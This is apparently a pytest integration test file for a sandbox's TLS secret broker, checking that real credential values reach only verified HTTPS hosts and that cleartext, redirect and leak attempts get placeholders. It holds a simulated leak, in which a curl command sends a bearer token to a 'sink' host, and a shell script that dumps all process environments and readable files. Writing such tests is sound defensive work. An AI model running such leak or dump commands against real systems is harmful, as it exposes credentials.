"""Secrets the guest never holds, the VMM's side: secrets_relay() (src/net/tlsbroker.c)
over real sockets, driven by build/tlsbroker_driver in the place of the egress proxy's
per-connection child. The guest's side is a Python ssl client that trusts only the sandbox CA
the broker made; the real host is a Python ssl server with a CA of its own, handed to the
broker as its upstream trust (as BLUEBOX_UPSTREAM_CA does for bluebox). The server must
receive the real value, the client must never see it, and a placeholder sent toward a host
its secret does not list must arrive as the placeholder and be counted.

test_secret_end_to_end at the bottom is the same through a uml guest and the Bluefile's
`allow:`/`secrets:`."""
import datetime
import json
import os
import re
import shutil
import socket
import ssl
import subprocess
import tempfile
import threading
from pathlib import Path

import pytest

from test_egress import DnsSpy, podman_gateway, spied_containers_conf
from test_podman_build import env  # noqa: F401  (session fixture)
from test_runtime import Home

HERE = Path(__file__).resolve().parent
REPO = HERE.parent.parent

PH_A = "BLUEBOX_SECRET_" + "0123456789abcdef" * 2
PH_B = "BLUEBOX_SECRET_" + "fedcba9876543210" * 2
VAL_A = "sk-live-real-value-AAAA"
VAL_B = "ghp-real-value-BBBB"

x509 = pytest.importorskip("cryptography.x509")
from cryptography.hazmat.primitives import hashes, serialization  # noqa: E402
from cryptography.hazmat.primitives.asymmetric import ec  # noqa: E402
from cryptography.x509.oid import NameOID  # noqa: E402


def driver_path():
    b = os.environ.get("BLUEBOX_BIN", str(REPO / "build" / "bluebox"))
    p = Path(b).resolve().parent / "tlsbroker_driver"
    if not p.exists():
        pytest.skip(f"{p} is not built (meson builds it with the unit tests)")
    return p


def _name(cn):
    return x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, cn)])


def make_pki(d: Path, names):
    """An upstream CA and a server certificate for `names`, as PEM files in d."""
    now = datetime.datetime.now(datetime.timezone.utc)
    ca_key = ec.generate_private_key(ec.SECP256R1())
    ca = (x509.CertificateBuilder().subject_name(_name("test upstream CA"))
          .issuer_name(_name("test upstream CA")).public_key(ca_key.public_key())
          .serial_number(x509.random_serial_number())
          .not_valid_before(now - datetime.timedelta(hours=1))
          .not_valid_after(now + datetime.timedelta(days=1))
          .add_extension(x509.BasicConstraints(ca=True, path_length=None), critical=True)
          .add_extension(x509.KeyUsage(False, False, False, False, False, True, True, False,
                                       False), critical=True)
          .add_extension(x509.SubjectKeyIdentifier.from_public_key(ca_key.public_key()),
                         critical=False)
          .sign(ca_key, hashes.SHA256()))
    key = ec.generate_private_key(ec.SECP256R1())
    cert = (x509.CertificateBuilder().subject_name(_name(names[0])).issuer_name(ca.subject)
            .public_key(key.public_key()).serial_number(x509.random_serial_number())
            .not_valid_before(now - datetime.timedelta(hours=1))
            .not_valid_after(now + datetime.timedelta(days=1))
            .add_extension(x509.SubjectAlternativeName([x509.DNSName(n) for n in names]),
                           critical=False)
            .add_extension(x509.AuthorityKeyIdentifier.from_issuer_public_key(
                ca_key.public_key()), critical=False)
            .sign(ca_key, hashes.SHA256()))
    pem = serialization.Encoding.PEM
    (d / "ca.pem").write_bytes(ca.public_bytes(pem))
    (d / "server.pem").write_bytes(cert.public_bytes(pem))
    (d / "server.key").write_bytes(key.private_bytes(
        pem, serialization.PrivateFormat.PKCS8, serialization.NoEncryption()))
    return d / "ca.pem"


class Upstream:
    """An HTTP/1.1 server (TLS, plain, or "auto": TLS when the client's first byte starts a
    handshake) that records every request head it receives and answers each with a body that
    says only whether the real value arrived. GET /redirect answers 302 to `redirect_to`; a
    request with `Upgrade: TLS/1.2` is answered 101 and the connection goes on in TLS."""

    def __init__(self, d: Path, tls):
        self.heads = []
        self.redirect_to = None
        self.sock = socket.socket()
        self.sock.bind(("127.0.0.1", 0))
        self.sock.listen(8)
        self.port = self.sock.getsockname()[1]
        self.tls = tls
        self.ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        self.ctx.load_cert_chain(d / "server.pem", d / "server.key")
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            try:
                c, _ = self.sock.accept()
            except OSError:
                return
            threading.Thread(target=self.one, args=(c,), daemon=True).start()

    def one(self, c):
        try:
            if self.tls is True or (self.tls == "auto" and c.recv(1, socket.MSG_PEEK) == b"\x16"):
                c = self.ctx.wrap_socket(c, server_side=True)
            buf = b""
            while True:
                while b"\r\n\r\n" not in buf:
                    more = c.recv(65536)
                    if not more:
                        return
                    buf += more
                head, buf = buf.split(b"\r\n\r\n", 1)
                self.heads.append(head.decode("latin-1"))
                length = 0
                for line in head.split(b"\r\n")[1:]:
                    k, _, v = line.partition(b":")
                    if k.strip().lower() == b"content-length":
                        length = int(v)
                while len(buf) < length:
                    buf += c.recv(65536)
                body, buf = buf[:length], buf[length:]
                got = b"real" if VAL_A.encode() in head else b"placeholder"
                reply = b"got " + got + b" body " + str(len(body)).encode()
                if b"\r\nupgrade: tls/1.2" in head.lower():  # RFC 2817: TLS from here on
                    c.sendall(b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: TLS/1.2\r\n"
                              b"Connection: Upgrade\r\n\r\n")
                    c = self.ctx.wrap_socket(c, server_side=True)
                    continue
                if head.startswith(b"GET /redirect ") and self.redirect_to:
                    c.sendall(b"HTTP/1.1 302 Found\r\nLocation: %s\r\nContent-Length: %d\r\n"
                              b"\r\n%s" % (self.redirect_to.encode(), len(reply), reply))
                    continue
                c.sendall(b"HTTP/1.1 200 OK\r\nContent-Length: %d\r\n\r\n%s" % (len(reply), reply))
        except (OSError, ssl.SSLError):
            return
        finally:
            c.close()

    def close(self):
        self.sock.close()


def start_driver(tmp: Path, trust: Path, port: int, mode: str, n: int, *hosts):
    secrets = [
        {"name": "API_TOKEN", "placeholder": PH_A, "value": VAL_A, "hosts": ["api.test"]},
        {"name": "OTHER", "placeholder": PH_B, "value": VAL_B, "hosts": ["other.test"],
         "headers": ["X-Other"]},  # beyond Authorization, X-Api-Key: a header it names
    ]
    (tmp / "secrets.json").write_text(json.dumps(secrets))
    p = subprocess.Popen([str(driver_path()), str(tmp / "secrets.json"), str(trust),
                          str(tmp / "sandbox-ca.pem"), str(port), mode, str(n), *hosts],
                         stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    line = p.stdout.readline()
    assert line.strip().isdigit(), p.stderr.read()
    return p, int(line)


def guest_client(tmp: Path, port: int, host: str, tls: bool):
    s = socket.create_connection(("127.0.0.1", port), timeout=20)
    if tls:
        ctx = ssl.create_default_context(cafile=str(tmp / "sandbox-ca.pem"))
        s = ctx.wrap_socket(s, server_hostname=host)
    return s


def read_responses(s, n):
    """n HTTP responses with Content-Length; the raw bytes of all of them."""
    raw, buf = b"", b""
    for _ in range(n):
        while b"\r\n\r\n" not in buf:
            more = s.recv(65536)
            assert more, f"connection closed after {raw + buf!r}"
            buf += more
        head, rest = buf.split(b"\r\n\r\n", 1)
        length = int(head.lower().split(b"content-length:")[1].split(b"\r\n")[0])
        while len(rest) < length:
            rest += s.recv(65536)
        raw += head + b"\r\n\r\n" + rest[:length]
        buf = rest[length:]
    return raw


def finish(p):
    out, err = p.communicate(timeout=20)
    assert p.returncode == 0, err
    return [json.loads(line) for line in out.splitlines() if line.strip()]


def requests_for(host):
    body = b"payload " + PH_A.encode()  # bodies pass untouched
    return (f"POST /one HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {PH_A}\r\n"
            f"X-Other: {PH_B}\r\nContent-Length: {len(body)}\r\n\r\n").encode() + body + (
            f"GET /two HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer {PH_A}\r\n\r\n").encode()


@pytest.mark.parametrize("tls", [True, False], ids=["https", "http"])
def test_real_value_reaches_only_its_host(tmp_path, tls):
    """Over TLS the broker verified, the host's secret replaces its placeholder in the
    credential headers. Over plain HTTP to the same host, to whatever answers there (no
    certificate, no name), the same requests arrive with their placeholders and no value, and
    the broker says cleartext (the connection log's `refused: cleartext`) with what it held
    back."""
    trust = make_pki(tmp_path, ["api.test", "other.test"])
    up = Upstream(tmp_path, tls)
    p, port = start_driver(tmp_path, trust, up.port, "tls" if tls else "plain", 1, "api.test")
    try:
        s = guest_client(tmp_path, port, "api.test", tls)
        # Cut into small writes: the rewriter holds heads across reads.
        data = requests_for("api.test")
        for i in range(0, len(data), 37):
            s.sendall(data[i:i + 37])
        raw = read_responses(s, 2)
        s.close()
    finally:
        up.close()
    stats = finish(p)
    assert raw.count(b"got real" if tls else b"got placeholder") == 2
    assert VAL_A.encode() not in raw and VAL_B.encode() not in raw
    assert len(up.heads) == 2
    assert all(f"Authorization: Bearer {VAL_A if tls else PH_A}" in h for h in up.heads)
    assert (PH_A not in "".join(up.heads)) == tls  # (the body's stays: bodies pass untouched)
    assert VAL_B not in "".join(up.heads) and (VAL_A in "".join(up.heads)) == tls
    assert f"X-Other: {PH_B}" in up.heads[0]  # another host's secret stays a placeholder
    assert b"body %d" % len(b"payload " + PH_A.encode()) in raw
    assert stats == [{"ret": 0, "host": "api.test", "up": len(data), "down": len(raw),
                      "requests": 2, "substituted": 2 if tls else 0, "leaks": 1,
                      "held": 0 if tls else 2, "cleartext": not tls, "error": ""}]


def read_head(s):
    buf = b""
    while b"\r\n\r\n" not in buf:
        more = s.recv(1)
        assert more, f"connection closed after {buf!r}"
        buf += more
    return buf


def test_upgrade_to_tls_mid_stream_gets_no_value(tmp_path):
    """Plain HTTP that upgrades to TLS (RFC 2817) mid-stream: the broker did not verify that
    TLS (the guest speaks it with the server itself, here trusting the server's own CA), so
    neither the upgrade request nor any request inside the TLS carries the value."""
    trust = make_pki(tmp_path, ["api.test"])
    up = Upstream(tmp_path, False)
    p, port = start_driver(tmp_path, trust, up.port, "plain", 1, "api.test")
    try:
        s = guest_client(tmp_path, port, "api.test", False)
        s.sendall(f"OPTIONS * HTTP/1.1\r\nHost: api.test\r\nUpgrade: TLS/1.2\r\n"
                  f"Connection: Upgrade\r\nAuthorization: Bearer {PH_A}\r\n\r\n".encode())
        assert read_head(s).startswith(b"HTTP/1.1 101")
        s = ssl.create_default_context(cafile=str(trust)).wrap_socket(s, server_hostname="api.test")
        s.sendall(f"GET /in HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer {PH_A}\r\n"
                  f"\r\n".encode())
        raw = read_responses(s, 1)
        s.close()
    finally:
        up.close()
    stats = finish(p)
    assert b"got placeholder" in raw
    assert len(up.heads) == 2 and VAL_A not in "".join(up.heads), up.heads
    assert all(f"Authorization: Bearer {PH_A}" in h for h in up.heads)
    assert stats[0]["substituted"] == 0 and stats[0]["cleartext"] is True


def test_redirect_to_plain_url_gets_no_value(tmp_path):
    """The real host (verified TLS: it gets the value) redirects to a plain http:// URL on the
    same name; a client that follows with its credential (curl --location-trusted) sends the
    placeholder there, never the value."""
    trust = make_pki(tmp_path, ["api.test"])
    up = Upstream(tmp_path, "auto")
    p, port = start_driver(tmp_path, trust, up.port, "auto", 2, "api.test")
    up.redirect_to = f"http://api.test:{port}/after"
    try:
        s = guest_client(tmp_path, port, "api.test", True)
        s.sendall(f"GET /redirect HTTP/1.1\r\nHost: api.test\r\n"
                  f"Authorization: Bearer {PH_A}\r\n\r\n".encode())
        first = read_responses(s, 1)
        s.close()
        assert first.startswith(b"HTTP/1.1 302") and b"got real" in first
        loc = re.search(rb"Location: http://api\.test:(\d+)(/\S*)", first)
        s = guest_client(tmp_path, int(loc.group(1)), "api.test", False)
        s.sendall(b"GET %s HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer %s\r\n\r\n"
                  % (loc.group(2), PH_A.encode()))
        second = read_responses(s, 1)
        s.close()
    finally:
        up.close()
    stats = finish(p)
    assert b"got placeholder" in second
    assert len(up.heads) == 2
    assert f"Authorization: Bearer {VAL_A}" in up.heads[0]  # the verified HTTPS path
    assert up.heads[1].startswith("GET /after ") and VAL_A not in up.heads[1], up.heads
    assert [(st["substituted"], st["cleartext"]) for st in stats] == [(1, False), (0, True)]


def test_placeholder_to_other_host_is_counted(tmp_path):
    """PH_A sent to other.test (which carries only PH_B's secret): it arrives as the
    placeholder, and the attempt is counted for the log."""
    trust = make_pki(tmp_path, ["api.test", "other.test"])
    up = Upstream(tmp_path, True)
    p, port = start_driver(tmp_path, trust, up.port, "tls", 1, "other.test")
    try:
        s = guest_client(tmp_path, port, "other.test", True)
        s.sendall(requests_for("other.test"))
        raw = read_responses(s, 2)
        s.close()
    finally:
        up.close()
    stats = finish(p)
    assert raw.count(b"got placeholder") == 2
    assert all(f"Authorization: Bearer {PH_A}" in h for h in up.heads)
    assert f"X-Other: {VAL_B}" in up.heads[0]
    assert VAL_A not in "".join(up.heads)
    assert stats[0]["leaks"] == 3 and stats[0]["substituted"] == 1


def test_untrusted_upstream_is_refused(tmp_path):
    """The real host's certificate must verify against the upstream trust: another CA's
    server gets no request (and no value), and the guest reads why."""
    make_pki(tmp_path, ["api.test"])
    other = tmp_path / "other"
    other.mkdir()
    wrong_trust = make_pki(other, ["api.test"])
    up = Upstream(tmp_path, True)
    p, port = start_driver(tmp_path, wrong_trust, up.port, "tls", 1, "api.test")
    try:
        s = guest_client(tmp_path, port, "api.test", True)
        raw = read_responses(s, 1)
        s.close()
    finally:
        up.close()
    stats = finish(p)
    assert raw.startswith(b"HTTP/1.1 502")
    assert b"did not verify" in raw
    assert stats[0]["ret"] == -1 and "did not verify" in stats[0]["error"]
    assert up.heads == []


def test_wrong_name_upstream_is_refused(tmp_path):
    """A server whose certificate the upstream trust signed, but for another name: the name
    check fails, the server gets no request and no value."""
    trust = make_pki(tmp_path, ["wrong.test"])
    up = Upstream(tmp_path, True)
    p, port = start_driver(tmp_path, trust, up.port, "tls", 1, "api.test")
    try:
        s = guest_client(tmp_path, port, "api.test", True)
        s.sendall(requests_for("api.test"))
        raw = read_responses(s, 1)
        s.close()
    finally:
        up.close()
    stats = finish(p)
    assert raw.startswith(b"HTTP/1.1 502") and b"did not verify" in raw
    assert stats[0]["ret"] == -1 and stats[0]["substituted"] == 0
    assert up.heads == []


def test_sandbox_ca_vouches_only_for_secret_hosts(tmp_path):
    """The sandbox CA's name constraints: a leaf it signs for a host no secret lists does not
    verify in the guest, whatever the broker is asked to do."""
    trust = make_pki(tmp_path, ["evil.test"])
    up = Upstream(tmp_path, True)
    p, port = start_driver(tmp_path, trust, up.port, "tls", 1, "evil.test")
    try:
        with pytest.raises(ssl.SSLCertVerificationError):
            guest_client(tmp_path, port, "evil.test", True)
    finally:
        up.close()
        p.kill()
        p.wait()
    pem = (tmp_path / "sandbox-ca.pem").read_text()
    assert pem.count("BEGIN CERTIFICATE") == 1 and "PRIVATE KEY" not in pem
    ca = x509.load_pem_x509_certificate(pem.encode())
    assert ca.extensions.get_extension_for_class(x509.BasicConstraints).value.ca
    nc = ca.extensions.get_extension_for_class(x509.NameConstraints)
    assert nc.critical
    assert sorted(n.value for n in nc.value.permitted_subtrees) == ["api.test", "other.test"]


# ---------------------------------------------------------------------------- end to end
# Through a uml guest: the Bluefile's `allow:`/`secrets:` (bluebox's host side) and the egress
# proxy that calls secrets_relay() (bluebox-vmm). Root, podman, user-mode-linux and the Debian
# test image (curl, from its apt mirror).
def _e2e_prereqs():
    if os.geteuid() != 0 or not os.environ.get("BLUEBOX_TEST_DEBIAN_IMAGE"):
        pytest.skip("needs root, podman and BLUEBOX_TEST_DEBIAN_IMAGE (tests/integration/setup.sh)")
    if not Path("/usr/bin/linux.uml").exists():
        pytest.skip("needs user-mode-linux")


def _host_addr():
    out = subprocess.run(["ip", "-o", "-4", "addr", "show", "scope", "global"],
                         capture_output=True, text=True).stdout
    for line in out.splitlines():
        w = line.split()
        if not w[1].startswith(("podman", "cni-", "veth")):
            return w[3].split("/")[0]
    pytest.skip("no global IPv4 address on this host")


def _listen_everywhere(up):
    """up's server moved to every address (the guest reaches the host's, not loopback)."""
    up.sock.close()
    up.sock = socket.create_server(("0.0.0.0", 0))
    up.port = up.sock.getsockname()[1]
    threading.Thread(target=up.serve, daemon=True).start()
    return up


GUEST_DUMP = r"""
mkdir -p /data/dump
cat /proc/[0-9]*/environ > /data/dump/environ 2>/dev/null
cat /proc/[0-9]*/cmdline > /data/dump/cmdline 2>/dev/null
find / \( -path /proc -o -path /sys -o -path /dev -o -path /data -o -path /usr \
    -o -path /.bluebox/vmm \) -prune -o -type f -size -1024k -print 2>/dev/null |
    while read -r f; do cat "$f"; done > /data/dump/files 2>/dev/null
echo dumped
"""


def test_secret_end_to_end(env, tmp_path, bluebox_bin):  # noqa: F811
    """The guest's curl, with only the placeholder in its environment, reaches an HTTPS
    server of the test (its CA handed to bluebox as BLUEBOX_UPSTREAM_CA) through the sandbox
    CA the guest init installed: the server receives the real value; another secret's
    placeholder sent there arrives as it is. The same placeholder sent over plain HTTP to a
    different allowed host (a name the test's DNS server answers) arrives unsubstituted and
    the connection log (logs/net/<name>.log) records the attempted leak. Plain HTTP to the
    secret's own host (another port of it), directly and as the target of a redirect from the
    HTTPS server that curl follows with its credential, gets the placeholder, never the value,
    and its log lines say refused: cleartext. The guest's environment, every
    process's environ and cmdline and its readable files hold only the placeholder."""
    _e2e_prereqs()
    addr = _host_addr()
    name = "host.containers.internal"
    sink_name = "sink.bluebox-secrets.test"
    trust = make_pki(tmp_path, [name])
    up = _listen_everywhere(Upstream(tmp_path, True))
    sink = _listen_everywhere(Upstream(tmp_path, False))
    clear = _listen_everywhere(Upstream(tmp_path, False))  # plain HTTP at the secret's host
    up.redirect_to = f"http://{name}:{clear.port}/after"
    gw = podman_gateway()  # what host.containers.internal names; the sink is there too
    spy = DnsSpy(addr, answers={sink_name: gw})
    h = Home(bluebox_bin)
    try:
        sb = h.sandbox("secrets-e2e", f"""base: {os.environ['BLUEBOX_TEST_DEBIAN_IMAGE']}
pkgmgr: apt
backend: uml
ram_mib: 512
network: bridge
packages: [curl]
allow:
  - {name}:{up.port}
  - {name}:{clear.port}
  - {sink_name}:{sink.port}
  - {gw}/32
  - other.bluebox-secrets.test
secrets:
  - name: API_TOKEN
    from_env: BB_E2E_TOKEN
    hosts: [{name}]
  - name: OTHER_TOKEN
    from_env: BB_E2E_OTHER
    hosts: [other.bluebox-secrets.test]
""")
        secret_env = {"BB_E2E_TOKEN": VAL_A, "BB_E2E_OTHER": VAL_B,
                      "BLUEBOX_UPSTREAM_CA": str(trust)}
        # curl's install on the host's kernel: this file is about the run (a guest build of
        # Debian packages takes minutes on a slow host; test_build_vm holds guest builds)
        r = h("build", "--host-kernel", sb, env=secret_env, timeout=900)
        assert r.returncode == 0, r
        assert b"network allow 5 hosts, 2 secrets" in r.stdout + r.stderr, r
        script = (f'echo "env $API_TOKEN $OTHER_TOKEN"; '
                  f'curl -sS -H "Authorization: Bearer $API_TOKEN" -H "X-Other: $OTHER_TOKEN" '
                  f'https://{name}:{up.port}/one 2>&1; echo; '
                  f'curl -sS -H "Authorization: Bearer $API_TOKEN" '
                  f'http://{sink_name}:{sink.port}/leak 2>&1; echo; '
                  f'curl -sS -H "Authorization: Bearer $API_TOKEN" '
                  f'http://{name}:{clear.port}/clear 2>&1; echo; '
                  f'curl -sS -L --location-trusted -H "Authorization: Bearer $API_TOKEN" '
                  f'https://{name}:{up.port}/redirect 2>&1; echo; '
                  + GUEST_DUMP)
        run_env = dict(secret_env, CONTAINERS_CONF=spied_containers_conf(tmp_path, addr))
        r = h("run", sb, "--", "sh", "-c", script, env=run_env, timeout=300)
        out = r.stdout.decode()
        assert r.returncode == 0, r
        m = re.search(r"^env (BLUEBOX_SECRET_[0-9a-f]{32}) (BLUEBOX_SECRET_[0-9a-f]{32})$", out,
                      re.M)
        assert m and "dumped" in out, out
        ph_a, ph_b = m.groups()
        log = h.dir / "home" / "logs" / "net" / f"{sb}.log"
        assert "got real" in out, (out, log.read_text())  # the HTTPS server's answer
        assert "got placeholder" in out, out  # the sink's
        assert VAL_A not in out and VAL_B not in out, out
        assert any(f"Authorization: Bearer {VAL_A}" in hd for hd in up.heads), up.heads
        assert any(f"X-Other: {ph_b}" in hd for hd in up.heads), up.heads
        assert VAL_B not in "".join(up.heads), up.heads
        assert len(sink.heads) == 1 and f"Authorization: Bearer {ph_a}" in sink.heads[0], sink.heads
        assert VAL_A not in sink.heads[0], sink.heads
        # cleartext to the secret's own host: /clear, and /after behind the HTTPS redirect
        # (whose own request, verified TLS, got the value)
        assert any(hd.startswith("GET /redirect ") and VAL_A in hd for hd in up.heads), up.heads
        assert [hd.split(" ")[1] for hd in clear.heads] == ["/clear", "/after"], clear.heads
        assert all(f"Authorization: Bearer {ph_a}" in hd for hd in clear.heads), clear.heads
        assert VAL_A not in "".join(clear.heads), clear.heads
        # what the guest could read: only placeholders
        dump = h.data(sb) / "dump"
        for f in ("environ", "cmdline", "files"):
            data = (dump / f).read_bytes()
            assert VAL_A.encode() not in data and VAL_B.encode() not in data, f
        assert f"API_TOKEN={ph_a}".encode() in (dump / "environ").read_bytes()
        assert (dump / "files").stat().st_size > 100_000  # the dump saw the guest's files
        # the connection log: the brokered connection, and the leak to the sink
        text = log.read_text()
        assert VAL_A not in text and VAL_B not in text
        entries = [json.loads(ln) for ln in text.splitlines()]
        tcp = {e["name"]: e for e in entries if e.get("kind") == "tcp"}
        https = [e for e in entries if e.get("kind") == "tcp" and e.get("port") == up.port]
        plain = [e for e in entries if e.get("kind") == "tcp" and e.get("port") == clear.port]
        assert all(e["decision"] == "allow" and e.get("brokered") for e in https), entries
        assert any(e["substituted"] >= 1 and e.get("leaks", 0) >= 1 for e in https), entries
        assert len(plain) == 2, entries
        for e in plain:
            assert e["refused"] == "cleartext" and e["held"] == 1, entries
            assert "brokered" not in e and "substituted" not in e, entries
            assert e["reason"].startswith("refused: cleartext"), entries
        assert tcp[sink_name]["leaks"] == 1 and not tcp[sink_name].get("brokered"), entries
        assert tcp[sink_name]["reason"].startswith("attempted leak"), entries
        shown = h("logs", sb, "--net")
        assert shown.returncode == 0 and sink_name.encode() in shown.stdout, shown
    finally:
        spy.close()
        up.close()
        sink.close()
        clear.close()
        h.close()



def test_secret_end_to_end_strict(env, tmp_path, bluebox_bin):  # noqa: F811
    """isolation: strict (rootless podman, the VMM a subordinate UID): the secret still
    reaches the VMM (a memfd at fd 3) and the upstream trust file (bind-mounted), so the HTTPS
    server gets the real value through the sandbox CA while the guest holds the placeholder;
    the connection log is the sandbox root's and `logs --net` reads it."""
    _e2e_prereqs()
    user = env["BLUEBOX_TEST_USER"]
    addr = _host_addr()  # rootless: host.containers.internal is the host's own address
    name = "host.containers.internal"
    pki = Path(tempfile.mkdtemp(prefix="bluebox-it-pki-", dir="/var/tmp"))
    pki.chmod(0o755)
    trust = make_pki(pki, [name])
    trust.chmod(0o644)  # the VMM reads it as the sandbox's root, a subordinate UID
    up = _listen_everywhere(Upstream(pki, True))
    h = Home(bluebox_bin, user=user)
    h.user_env = {"BB_E2E_TOKEN": VAL_A, "BLUEBOX_UPSTREAM_CA": str(trust)}
    try:
        sb = h.sandbox("secrets-strict", f"""base: {os.environ['BLUEBOX_TEST_DEBIAN_IMAGE']}
pkgmgr: apt
backend: uml
ram_mib: 512
isolation: strict
network: bridge
packages: [curl]
allow:
  - {name}:{up.port}
  - {addr}/32
secrets:
  - name: API_TOKEN
    from_env: BB_E2E_TOKEN
    hosts: [{name}]
""")
        r = h("build", "--host-kernel", sb, timeout=900)  # as above
        assert r.returncode == 0, r
        script = (f'echo "env $API_TOKEN"; '
                  f'curl -sS -H "Authorization: Bearer $API_TOKEN" '
                  f'https://{name}:{up.port}/one 2>&1; echo')
        r = h("run", sb, "--", "sh", "-c", script, timeout=300)
        out = r.stdout.decode()
        assert r.returncode == 0, r
        m = re.search(r"^env (BLUEBOX_SECRET_[0-9a-f]{32})$", out, re.M)
        assert m and "got real" in out and VAL_A not in out, out
        assert [f"Authorization: Bearer {VAL_A}" in hd for hd in up.heads] == [True], up.heads
        log = h.dir / "home" / "logs" / "net" / f"{sb}.log"
        assert log.stat().st_uid != os.stat(h.dir).st_uid  # the sandbox's root owns it
        assert VAL_A not in log.read_text()
        shown = h("logs", sb, "--net")
        assert shown.returncode == 0, shown
        assert f"{name}:{up.port}".encode() in shown.stdout, shown
    finally:
        up.close()
        h.close()
        shutil.rmtree(pki, ignore_errors=True)
